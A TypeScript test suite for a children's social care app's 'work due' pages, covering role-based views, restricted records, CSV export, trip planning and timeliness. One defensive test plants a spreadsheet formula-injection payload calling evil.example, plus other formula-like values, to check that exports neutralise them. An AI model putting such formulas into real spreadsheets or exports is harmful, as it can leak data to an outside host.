import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { appForSuite, Agent, signedIn, textOf } from '../../../test/support/app.ts';
import { describeEachEngine } from '../../../test/support/databases.ts';
import { TEST_TODAY } from '../../../test/support/environment.ts';
import { createTeam, createUser, TEST_PASSWORD } from '../../../test/support/users.ts';
import { ensureScopeStored } from '../../timescales/index.ts';
import { countDueItems, countDueItemsIfStored, type DueCount } from './queries.ts';

// TEST_TODAY is Monday 23 November 2026.
describeEachEngine('work due: my work, team and service views, CSV, trips and timeliness', (use) => {
  const t = appForSuite(use);
  const agents: Record<string, Agent> = {};
  let teamA: string;
  let teamB: string;
  let serviceA: string;
  let wendy: string;
  let walt: string;
  const children: Record<string, string> = {};
  const db = () => use().db;

  before(async () => {
    ({ teamId: teamA, serviceId: serviceA } = await createTeam(db(), 'Work Team A'));
    ({ teamId: teamB } = await createTeam(db(), 'Work Team B'));
    wendy = await createUser(db(), { email: 'wd-wendy@example.org', role: 'social_worker', teamId: teamA, name: 'Wendy Worker' });
    walt = await createUser(db(), { email: 'wd-walt@example.org', role: 'social_worker', teamId: teamA, name: 'Walt Worker' });
    await createUser(db(), { email: 'wd-tm@example.org', role: 'team_manager', teamId: teamA, name: 'Tara Manager' });
    await createUser(db(), { email: 'wd-tmb@example.org', role: 'team_manager', teamId: teamB, name: 'Bea Manager' });
    await createUser(db(), { email: 'wd-sm@example.org', role: 'service_manager', serviceId: serviceA, name: 'Sam Service' });
    await createUser(db(), { email: 'wd-hos@example.org', role: 'head_of_service', name: 'Hal Head' });
    for (const [key, email] of Object.entries({ wendy: 'wd-wendy', walt: 'wd-walt', tm: 'wd-tm', tmb: 'wd-tmb', sm: 'wd-sm', hos: 'wd-hos' })) {
      agents[key] = new Agent(t.app);
      assert.equal((await agents[key]!.signIn(`${email}@example.org`, TEST_PASSWORD)).statusCode, 303);
    }
    const child = async (key: string, surname: string, worker: string, restricted = false) => {
      const row = await db()
        .insertInto('people')
        .values({ is_child: true, la_child_id: `WD${key}`, forename: 'Kit', surname, date_of_birth: '2013-03-03', sex: 'M', restricted, restriction_reason: restricted ? 'Relative of staff' : null })
        .returning('id')
        .executeTakeFirstOrThrow();
      children[key] = row.id;
      await db().insertInto('allocations').values({ child_id: row.id, role: 'lead', team_id: teamA, worker_id: worker, start_date: '2025-06-02' }).execute();
      return row.id;
    };
    // Wendy's child in care in Manchester, last seen 1 October: visit overdue since 12 November.
    const far = await child('1', 'Farplace', wendy);
    await db()
      .insertInto('care_episodes')
      .values({ child_id: far, start_date: '2025-06-02', reason_new_episode: 'S', legal_status: 'C2', primary_need: 'N1', placement_type: 'U3', placement_provider: 'PR1', placement_postcode: 'M1 1AE', placement_out_of_area: true })
      .execute();
    // Walt's child on a plan since 2 November: first visit due 16 November.
    const plan = await child('2', 'Planchild', walt);
    await db().insertInto('cp_plans').values({ child_id: plan, start_date: '2026-11-02', initial_category: 'NEG', latest_category: 'NEG' }).execute();
    // A restricted child of Wendy's on a plan that nobody in these tests is named on.
    const hidden = await child('3', 'Hiddenname', wendy, true);
    await db().insertInto('cp_plans').values({ child_id: hidden, start_date: '2026-11-02', initial_category: 'NEG', latest_category: 'NEG' }).execute();
    await db()
      .insertInto('visits')
      .values([
        { child_id: far, kind: 'social_worker', visit_date: '2026-10-01', visitor_id: wendy, child_seen: true, seen_alone: true, bedroom_seen: true, note: 'Seen.', recorded_by: wendy, recorded_at: new Date('2026-10-01T15:00:00Z') },
        { child_id: far, kind: 'social_worker', visit_date: '2026-08-15', visitor_id: wendy, child_seen: true, seen_alone: true, bedroom_seen: true, note: 'Seen.', recorded_by: wendy, recorded_at: new Date('2026-08-15T15:00:00Z') },
      ])
      .execute();
    await db()
      .insertInto('case_events')
      .values([
        { child_id: far, kind: 'cla_review', event_date: '2025-06-25', recorded_by: wendy, recorded_at: new Date('2025-06-25T15:00:00Z') },
        { child_id: far, kind: 'cla_review', event_date: '2026-06-01', recorded_by: wendy, recorded_at: new Date('2026-06-01T15:00:00Z') },
        { child_id: far, kind: 'health_assessment', event_date: '2026-06-01', recorded_by: wendy, recorded_at: new Date('2026-06-01T15:00:00Z') },
        { child_id: far, kind: 'pep_review', event_date: '2026-10-10', recorded_by: wendy, recorded_at: new Date('2026-10-10T15:00:00Z') },
      ])
      .execute();
    // Her plan for permanence was made in time (by the second review), so nothing about it is due.
    await db().insertInto('permanence_plans').values({ child_id: far, plan: 'long_term_fostering', decided_on: '2025-09-25', recorded_by: wendy, recorded_at: new Date('2025-09-25T15:00:00Z') }).execute();
  });

  test('my work: the worker’s own children only, grouped by status, with the rule, the journey and one click to record; restricted records stay out', async () => {
    const page = await agents.wendy!.get('/work');
    assert.equal(page.statusCode, 200);
    const text = textOf(page.body);
    assert.match(text, /Overdue \(1\)/);
    assert.match(text, /Kit Farplace\s+WD1\s+Visit \(child looked after\)\s+At most 6 weeks after the last visit, after the first year of a placement not intended to last until 18\s+Out of area: \d+(\.\d)? miles from the team base, about \d+ hours?( \d+ minutes)? each way\s+12 November 2026\s+Overdue by 11 days/);
    assert.match(page.body, new RegExp(`href="/children/${children['1']}/visits/new"`));
    assert.match(text, /Looked-after review[\s\S]*?1 December 2026/);
    assert.doesNotMatch(text, /Planchild|Hiddenname/);
    const home = textOf((await agents.wendy!.get('/')).body);
    assert.match(home, /My work\s*: 1 overdue, 0 due this week, 1 due in the next 4 weeks/);
  });

  test('the team view: counts by kind and worker, the list filtered by worker and kind, restricted records neither listed nor counted', async () => {
    const page = await agents.tm!.get(`/work/teams/${teamA}`);
    assert.equal(page.statusCode, 200);
    const text = textOf(page.body);
    assert.match(text, /Visit \(child looked after\)\s+1\s+0\s+0/);
    assert.match(text, /Visit \(child protection plan\)\s+1\s+0\s+0/);
    assert.match(text, /Farplace/);
    assert.match(text, /Planchild/);
    assert.doesNotMatch(text, /Hiddenname/);
    const filtered = textOf((await agents.tm!.get(`/work/teams/${teamA}?worker=${walt}&kind=cp_visit&status=overdue`)).body);
    assert.match(filtered, /1 items, by due date/);
    assert.match(filtered, /Planchild/);
    assert.doesNotMatch(filtered.slice(filtered.indexOf('The list')), /Farplace/);
    const visits = await agents.tm!.get(`/work/teams/${teamA}?kind=cla_visit&status=overdue`);
    assert.doesNotMatch(textOf(visits.body).slice(textOf(visits.body).indexOf('The list')), /Planchild/);
  });

  test('CSV export follows the filters and the access policy, and is audited', async () => {
    const csv = await agents.tm!.get(`/work/teams/${teamA}/export.csv?status=overdue`);
    assert.equal(csv.statusCode, 200);
    assert.match(String(csv.headers['content-type']), /text\/csv/);
    const lines = csv.body.trim().split('\n');
    assert.equal(lines[0], 'la_child_id,child,worker,team,item,due_date,status,days_overdue,rule,source,miles_from_base,travel_minutes');
    assert.equal(lines.length, 4, 'the two overdue visits and the overdue first core group');
    assert.ok(lines.some((l) => l.startsWith('WD1,Kit Farplace,Wendy Worker,Work Team A,Visit (child looked after),2026-11-12,Overdue,11,')));
    assert.doesNotMatch(csv.body, /Hiddenname/);
    const audit = await db().selectFrom('audit_events').select(['outcome', 'reason']).where('action', '=', 'work-due.export').execute();
    assert.deepEqual(audit.at(-1), { outcome: 'allowed', reason: '3 rows exported' });
  });

  test('another team’s manager, a worker and an unknown team get 404 on the team view and its CSV; administrators’ pages are not involved', async () => {
    for (const agent of [agents.tmb!, agents.wendy!]) {
      assert.equal((await agent.get(`/work/teams/${teamA}`)).statusCode, 404);
      assert.equal((await agent.get(`/work/teams/${teamA}/export.csv`)).statusCode, 404);
    }
    assert.equal((await agents.tm!.get('/work/teams/not-a-team')).statusCode, 404);
    assert.equal((await agents.tm!.get(`/work/teams/${teamB}`)).statusCode, 404);
  });

  test('the service manager sees the service by team; a head of service sees the council’s counts but no child’s name', async () => {
    const service = textOf((await agents.sm!.get(`/work/services/${serviceA}?status=due`)).body);
    assert.match(service, /Work Team A\s+2\s+3\s+0/);
    assert.match(service, /Farplace/);
    const hosService = await agents.hos!.get(`/work/services/${serviceA}`);
    assert.equal(hosService.statusCode, 200);
    assert.doesNotMatch(hosService.body, /Farplace|Planchild|Hiddenname/);
    const council = await agents.hos!.get('/work/council');
    assert.equal(council.statusCode, 200);
    assert.match(textOf(council.body), /In all: 3 overdue, of which 2 visits/);
    assert.equal((await agents.wendy!.get('/work/council')).statusCode, 404);
  });

  test('the trip planner groups far placements due a visit, and prints', async () => {
    const page = await agents.wendy!.get('/work/trips?weeks=2');
    assert.equal(page.statusCode, 200);
    const text = textOf(page.body);
    assert.match(text, /Trip 1: Manchester/);
    assert.match(text, /Kit Farplace\s+WD1\s+M1 1AE, Manchester/);
    const print = await agents.wendy!.get('/work/trips?weeks=2&print=1');
    assert.match(textOf(print.body), /Trip planner: visits to children placed far away/);
    assert.doesNotMatch(print.body, /name="weeks"/);
    const bad = await agents.wendy!.get('/work/trips?weeks=99');
    assert.equal(bad.statusCode, 400);
    assert.match(bad.body, /href="#weeks"/);
  });

  test('timeliness: the team’s share of visits, reviews and assessments in time by month; not for a worker', async () => {
    const page = await agents.tm!.get('/work/timeliness');
    assert.equal(page.statusCode, 200);
    const text = textOf(page.body);
    assert.match(text, /Timeliness\s+Work Team A/);
    assert.match(page.body, /<svg/);
    assert.match(text, /2026-11\s+2\s+0 \(0%\)/, 'two visits fell due in November before today, neither done');
    assert.match(text, /2026-10\s+0\s+0\s+0\s+0\s+0\s+0\s+1\s+1 \(100%\)/, 'in October the child in care was seen, alone, once');
    assert.match(text, /Children seen alone[\s\S]*?Over the 12 months: 100%/);
    assert.equal((await agents.wendy!.get('/work/timeliness')).statusCode, 403);
    const council = textOf((await agents.hos!.get('/work/timeliness')).body);
    assert.match(council, /Timeliness\s+the council/);
    assert.match(council, /By service[\s\S]*Work Team A service/);
    const service = textOf((await agents.sm!.get('/work/timeliness')).body);
    assert.match(service, /Timeliness\s+Work Team A service[\s\S]*By team[\s\S]*Work Team A/);
    const home = textOf((await agents.tm!.get('/')).body);
    assert.match(home, /Work Team A\s*: 3 overdue, of which 2 visits/);
    assert.equal((await agents.tmb!.get(`/work/timeliness/teams/${teamA}`)).statusCode, 404);
  });

  test('recording the visit from my work clears it from the list', async () => {
    await agents.wendy!.get(`/children/${children['1']}/visits/new`);
    const saved = await agents.wendy!.post(`/children/${children['1']}/visits/new`, {
      'visitDate-day': '23',
      'visitDate-month': '11',
      'visitDate-year': '2026',
      visitorId: wendy,
      virtual: 'in_person',
      childSeen: 'yes',
      seenAlone: 'no',
      bedroomSeen: 'yes',
      note: 'Long drive; Kit is well.',
    });
    assert.equal(saved.statusCode, 303);
    assert.match(textOf((await agents.wendy!.get('/work')).body), /Overdue \(0\)/);
    const timeliness = textOf((await agents.tm!.get('/work/timeliness')).body);
    assert.match(timeliness, /2026-11\s+2\s+0 \(0%\)\s+0\s+0\s+0\s+0\s+1\s+0 \(0%\)/, 'seen but not alone: counted among those seen, not among those seen alone');
    assert.match(timeliness, /Over the 12 months: 66.7%/);
  });

  test('the team and service CSVs write a name that looks like a formula as text, never as a working formula', async () => {
    const formula = '=HYPERLINK("http://evil.example/?id="&A2,"Open record")';
    const worker = await createUser(db(), { email: 'wd-formula@example.org', role: 'social_worker', teamId: teamA, name: '@SUM(A1:A9)' });
    const row = await db()
      .insertInto('people')
      .values({ is_child: true, la_child_id: '-2+3', forename: formula, surname: 'Smith', date_of_birth: '2013-03-03', sex: 'F', restricted: false, restriction_reason: null })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db().insertInto('allocations').values({ child_id: row.id, role: 'lead', team_id: teamA, worker_id: worker, start_date: '2025-06-02' }).execute();
    await db().insertInto('cp_plans').values({ child_id: row.id, start_date: '2026-11-02', initial_category: 'NEG', latest_category: 'NEG' }).execute();
    for (const [agent, url] of [
      [agents.tm!, `/work/teams/${teamA}/export.csv`],
      [agents.sm!, `/work/services/${serviceA}/export.csv`],
    ] as const) {
      const csv = await agent.get(url);
      assert.equal(csv.statusCode, 200, url);
      const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
      const mine = rows.filter((r) => r.child?.includes('HYPERLINK'));
      assert.ok(mine.length >= 1, `${url}: the child is listed`);
      for (const r of mine) {
        assert.equal(r.child, `'${formula} Smith`, url);
        assert.equal(r.worker, "'@SUM(A1:A9)", url);
        assert.equal(r.la_child_id, "'-2+3", url);
      }
      // Days overdue are numbers: a count is never given an apostrophe.
      assert.ok(rows.every((r) => /^-?\d+$/.test(r.days_overdue!)), url);
      assert.doesNotMatch(csv.body, /(^|,)=HYPERLINK/m, url);
    }
  });

  test('a team’s overdue counts come with the check that its children are worked out for today, and none come while one is not', async () => {
    const viewer = { id: wendy, role: 'team_manager' as const, teamId: teamA, serviceId: null };
    const now = new Date(`${TEST_TODAY}T09:00:00Z`);
    const ask = () => countDueItemsIfStored(db(), viewer, now, { teamId: teamA }, 'workload', ['overdue'], TEST_TODAY);
    const inOrder = (counts: readonly DueCount[]) => [...counts].sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
    await ensureScopeStored(db(), TEST_TODAY, { teamId: teamA });
    const current = await ask();
    assert.ok(current && current.length > 0, 'every child is current: the counts come at once');
    assert.deepEqual(inOrder(current), inOrder(await countDueItems(db(), viewer, now, { teamId: teamA }, 'workload', ['overdue'], TEST_TODAY)));
    await db().updateTable('people').set({ date_of_birth: '2013-03-04' }).where('id', '=', children['1']!).execute();
    assert.equal(await ask(), null, 'a child whose record changed is not counted until worked out again');
    await ensureScopeStored(db(), TEST_TODAY, { teamId: teamA });
    assert.ok(await ask());
  });
});

describeEachEngine('work due for a personal adviser', (use) => {
  const t = appForSuite(use);
  let pa: Agent;
  let paId: string;
  let youngPerson: string;
  const db = () => use().db;

  before(async () => {
    const { teamId } = await createTeam(db(), 'Leaving Care Team');
    const lead = await createUser(db(), { email: 'pa-lead@example.org', role: 'social_worker', teamId, name: 'Lee Lead' });
    paId = await createUser(db(), { email: 'pa-adviser@example.org', role: 'personal_adviser', teamId, name: 'Pat Adviser' });
    pa = await signedIn(t.app, 'pa-adviser@example.org');
    youngPerson = (
      await db()
        .insertInto('people')
        .values({ is_child: true, la_child_id: 'PA0001', forename: 'Jo', surname: 'Leaver', date_of_birth: '2008-01-15', sex: 'F' })
        .returning('id')
        .executeTakeFirstOrThrow()
    ).id;
    await db()
      .insertInto('allocations')
      .values([
        { child_id: youngPerson, role: 'lead', team_id: teamId, worker_id: lead, start_date: '2023-01-09' },
        { child_id: youngPerson, role: 'personal_adviser', team_id: teamId, worker_id: paId, start_date: '2025-10-01' },
      ])
      .execute();
    // In care from 14 until the 18th birthday; a care leaver since.
    await db()
      .insertInto('care_episodes')
      .values({ child_id: youngPerson, start_date: '2022-03-07', end_date: '2026-01-15', reason_ceased: 'E17', reason_new_episode: 'S', legal_status: 'V2', primary_need: 'N4', placement_type: 'U3', placement_provider: 'PR1', placement_postcode: 'BN21 4AB' })
      .execute();
    await db().insertInto('care_leavers').values({ child_id: youngPerson, category: 'former_relevant' }).execute();
    await db()
      .insertInto('case_events')
      .values([
        { child_id: youngPerson, kind: 'needs_assessment', event_date: '2024-03-01', recorded_by: lead, recorded_at: new Date('2024-03-01T12:00:00Z') },
        { child_id: youngPerson, kind: 'pathway_plan_review', event_date: '2026-06-20', recorded_by: lead, recorded_at: new Date('2026-06-20T12:00:00Z') },
        { child_id: youngPerson, kind: 'health_assessment', event_date: '2025-02-01', recorded_by: lead, recorded_at: new Date('2025-02-01T12:00:00Z') },
      ])
      .execute();
  });

  test('the adviser sees contact and the pathway plan, not the lead worker’s items; their visit counts as contact', async () => {
    let text = textOf((await pa.get('/work')).body);
    assert.match(text, /Jo Leaver\s+PA0001\s+Personal adviser contact[\s\S]*15 March 2026\s+Overdue by 253 days/);
    assert.match(text, /Pathway plan review[\s\S]*20 December 2026/);
    assert.doesNotMatch(text, /Health assessment|Visit \(child/);
    await pa.get(`/children/${youngPerson}/visits/new`);
    const saved = await pa.post(`/children/${youngPerson}/visits/new`, {
      'visitDate-day': '20',
      'visitDate-month': '11',
      'visitDate-year': '2026',
      visitorId: paId,
      virtual: 'in_person',
      childSeen: 'yes',
      seenAlone: 'yes',
      note: 'Met Jo at college; talked about her flat and her course.',
    });
    assert.equal(saved.statusCode, 303);
    const visit = await db().selectFrom('visits').select('kind').where('child_id', '=', youngPerson).executeTakeFirstOrThrow();
    assert.equal(visit.kind, 'personal_adviser');
    text = textOf((await pa.get('/work')).body);
    assert.match(text, /Overdue \(0\)/);
  });
});
